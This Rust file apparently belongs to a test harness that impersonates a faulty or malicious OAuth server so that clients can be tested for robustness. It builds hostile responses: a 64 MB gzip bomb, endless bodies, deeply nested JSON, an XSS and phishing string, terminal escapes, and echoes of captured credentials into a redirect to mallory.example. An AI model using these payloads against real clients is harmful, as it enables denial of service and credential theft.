//! Faults, performed: each takes the honest answer, or the place of it.

use serde_json::{Value, json};

use crate::encoding::{base64_standard, base64url, basic};
use crate::flow::callback::HOSTILE_TEXT;
use crate::gzip;
use crate::members::Members;
use crate::record::{Record, SecretKind};
use crate::twist::{Fault, Form};
use crate::wire::{Body, Request, Response};

const MANY: usize = 100_000;
const MEGABYTE: usize = 1024 * 1024;
/// What the bomb inflates to.
const BOMB: u32 = 64 * 1024 * 1024;

/// Answers with the fault. `honest` is called where the request is still to be carried out; `record` has the secrets so far.
pub(crate) fn perform(
    fault: &Fault,
    request: &Request,
    record: &Record,
    honest: impl FnOnce() -> Response,
) -> Response {
    match fault {
        Fault::Status(status) => Response::empty(*status),
        Fault::Unavailable { retry_after } => {
            Response::empty(503).header("Retry-After", &retry_after.to_string())
        }
        Fault::Redirect { status, to } => Response::empty(*status).header("Location", to),
        Fault::EndlessBody => with_body(honest(), Body::Endless),
        Fault::FalseLength => with_body(honest(), |bytes| {
            let length = bytes.len() + 1000;
            Body::FalseLength(bytes, length)
        }),
        Fault::LongBody => with_body(honest(), |bytes| {
            Body::Whole([vec![b' '; 10 * MEGABYTE], bytes].concat())
        }),
        Fault::ManyHeaders => {
            let mut response = honest();
            response
                .headers
                .extend((0..MANY).map(|n| (format!("X-Filler-{n}"), "x".to_owned())));
            response
        }
        Fault::HugeHeader => honest().header("X-Filler", &"x".repeat(MEGABYTE)),
        Fault::TwoLengths => honest().header("Content-Length", "2"),
        Fault::FoldedHeader => honest().header("X-Folded", "one\r\n two"),
        Fault::SetCookie => honest().header("Set-Cookie", "rehearsal=crumb; Path=/"),
        Fault::GzipBomb => {
            let bomb = Response::json_text(200, gzip::zeros(BOMB));
            bomb.header("Content-Encoding", "gzip")
        }
        Fault::Trickle(pause) => with_body(honest(), |bytes| Body::Trickled(bytes, *pause)),
        Fault::Stall => with_body(honest(), |_| Body::Stalled),
        Fault::Drop => with_body(honest(), |_| Body::Dropped),
        Fault::DeepJson => Response::json_text(200, ["[".repeat(MANY), "]".repeat(MANY)].concat()),
        Fault::HugeString => Response::json_text(
            200,
            format!("{{\"scope\":\"{}\"}}", "a".repeat(10 * MEGABYTE)),
        ),
        Fault::NulInJson => Response::json_text(
            200,
            r#"{"access_token":"a\u0000b","token_type":"Bearer","sub":"a\u0000b"}"#,
        ),
        Fault::LoneSurrogate => Response::json_text(
            200,
            r#"{"access_token":"a\ud800b","token_type":"Bearer","sub":"a\ud800b"}"#,
        ),
        Fault::TruncatedJson => Response::json_text(200, r#"{"access_token":"abc","token_ty"#),
        Fault::EmptyError => Response::empty(400),
        Fault::ErrorObject => Response::json_text(
            400,
            r#"{"error":{"code":"invalid_grant","message":"an object"},"error_description":["a","list"]}"#,
        ),
        Fault::HtmlError => {
            let text =
                "<html><script>alert(1)</script><b>Sign in again at mallory.example</b></html>";
            Response::oauth_error(400, "invalid_request", text)
        }
        Fault::TerminalEscapes => Response::oauth_error(400, "invalid_request", HOSTILE_TEXT),
        Fault::ErrorInOk => Response::oauth_error(
            200,
            "incorrect_client_credentials",
            "an error in a good status",
        ),
        Fault::EchoInMembers => echo_in_members(request, honest()),
        Fault::EchoInHeaders => {
            let response = honest();
            let secrets = secrets_of(request, &response);
            let all: Vec<String> = secrets
                .iter()
                .map(|(_, value)| value.chars().filter(char::is_ascii_graphic).collect())
                .collect();
            let all = all.join(",");
            let response = response
                .header("Location", &format!("http://mallory.example/?{all}"))
                .header("Set-Cookie", &format!("echo={all}"));
            secrets
                .iter()
                .enumerate()
                .fold(response, |response, (n, (_, value))| {
                    let visible: String = value.chars().filter(|c| !c.is_control()).collect();
                    response.header(&format!("X-Echo-{n}"), &visible)
                })
        }
        Fault::EchoInError => {
            let values: Vec<String> = secrets_of(request, &Response::empty(400))
                .into_iter()
                .map(|(_, value)| value)
                .collect();
            Response::oauth_error(
                400,
                "invalid_request",
                &format!("cannot use {}", values.join(" ")),
            )
        }
        Fault::Member(name, value) => with_member(honest(), name, value),
        Fault::Reflect { member, kind, form } => {
            let response = honest();
            let secret = latest(record, *kind);
            with_member(
                response,
                member,
                &json!(written(&secret, *form)).to_string(),
            )
        }
        Fault::Refusal { error, description } => Response::oauth_error(400, error, description),
        Fault::HeadLine(line) => {
            let mut response = honest();
            response.further_lines.push(line.clone());
            response
        }
        Fault::Challenge(challenge) => Response::empty(401).header("WWW-Authenticate", challenge),
    }
}

/// The same answer with this member, in the place of one of the same name. The value need not be JSON that any library would write.
fn with_member(mut response: Response, name: &str, value: &str) -> Response {
    let mut members = Members::new();
    if let Ok(Value::Object(honest)) = serde_json::from_slice(response.bytes()) {
        for (name, value) in honest {
            members.set(&name, value);
        }
    }
    members.set_raw(name, value);
    response.body = Body::Whole(members.render().into_bytes());
    response
}

/// The secret of this kind that was issued or received last; empty if there was none.
fn latest(record: &Record, kind: SecretKind) -> String {
    let secrets = record.secrets();
    let found = secrets.into_iter().rev().find(|secret| secret.kind == kind);
    found.map(|secret| secret.value).unwrap_or_default()
}

/// A secret in this form.
fn written(secret: &str, form: Form) -> String {
    let bytes = |write: fn(u8) -> String| secret.bytes().map(write).collect();
    match form {
        Form::Plain => secret.to_owned(),
        Form::Percent => bytes(|byte| format!("%{byte:02X}")),
        Form::Base64 => base64_standard(secret),
        Form::Base64Url => base64url(secret),
        Form::Hex => bytes(|byte| format!("{byte:02x}")),
        Form::JsonEscaped => bytes(|byte| format!("\\u{byte:04x}")),
        Form::Within => format!("see {secret} for more"),
        Form::First(count) => secret.chars().take(count).collect(),
    }
}

/// The same answer with its body in another form.
fn with_body(mut response: Response, wrap: impl FnOnce(Vec<u8>) -> Body) -> Response {
    response.body = wrap(response.bytes().to_vec());
    response
}

fn echo_in_members(request: &Request, mut response: Response) -> Response {
    let secrets = secrets_of(request, &response);
    let mut members = match serde_json::from_slice(response.bytes()) {
        Ok(Value::Object(members)) => members,
        _ => serde_json::Map::new(),
    };
    for (name, value) in &secrets {
        members.insert(format!("X_{name}"), json!(value));
        members.insert(format!("{name}_base64"), json!(base64_standard(value)));
    }
    members.insert(
        "debug".to_owned(),
        json!({ "request": String::from_utf8_lossy(&request.body) }),
    );
    response.body = Body::Whole(Value::Object(members).to_string().into_bytes());
    response
}

/// What came in fields, query and credentials, and what goes out as text.
fn secrets_of(request: &Request, response: &Response) -> Vec<(String, String)> {
    let mut all = request.query();
    all.extend(request.fields());
    for (name, value) in &request.headers {
        let credential = name.eq_ignore_ascii_case("authorization")
            || name.to_ascii_lowercase().starts_with("x-amz-sso");
        if credential {
            let bare = value
                .split_once(' ')
                .map_or(value.as_str(), |(_, token)| token);
            all.push(("credential".to_owned(), bare.to_owned()));
            all.extend(basic(value).map(|(_, secret)| ("client_secret".to_owned(), secret)));
        }
    }
    if let Ok(Value::Object(members)) = serde_json::from_slice(response.bytes()) {
        all.extend(
            members
                .into_iter()
                .filter_map(|(name, value)| Some((name, value.as_str()?.to_owned()))),
        );
    }
    all
}
